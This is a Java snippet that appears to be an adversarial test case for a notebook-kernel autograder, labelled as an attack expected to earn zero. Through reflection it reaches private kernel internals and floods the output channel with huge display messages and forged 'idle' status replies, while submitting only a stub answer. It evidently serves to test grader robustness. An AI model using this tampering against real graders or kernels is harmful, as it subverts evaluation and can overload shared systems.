// attack: publishes properly signed outputs and replies of its own for every request, without end
// assignment: 00-start-here
// question: scale
// slow: yes
// earns: 0
// reason: expected|idle again|wasn.t done
Object field(Object of, String name) throws Exception {
    for (Class<?> type = of.getClass(); type != null; type = type.getSuperclass()) {
        try {
            var field = type.getDeclaredField(name);
            field.setAccessible(true);
            return field.get(of);
        } catch (NoSuchFieldException above) {
        }
    }
    throw new NoSuchFieldException(name + " of " + of.getClass());
}
java.nio.channels.SocketChannel wire() throws Exception {
    Object output = field(io.percolate.kernel.Percolate.getKernelInstance(), "output");
    return (java.nio.channels.SocketChannel) field(field(field(field(output, "publisher"), "channel"), "line"), "channel");
}

double[] scale(int[] pixels) {
    return new double[pixels.length];
}
Object kernel = io.percolate.kernel.Percolate.getKernelInstance();
var publisher = (io.percolate.kernel.wire.Publisher) field(field(kernel, "output"), "publisher");
var content = com.google.gson.JsonParser.parseString("{\"data\": {\"application/json\": [" + "[],".repeat(1_000_000) + "0]}, \"metadata\": {}, \"transient\": {\"display_id\": \"x\"}}").getAsJsonObject();
for (int i = 0; i < 20; i++) {
    publisher.publish(new com.google.gson.JsonObject(), "display_data", content);
    publisher.publish(new com.google.gson.JsonObject(), "status", com.google.gson.JsonParser.parseString("{\"execution_state\": \"idle\"}").getAsJsonObject());
    Thread.sleep(5);
}
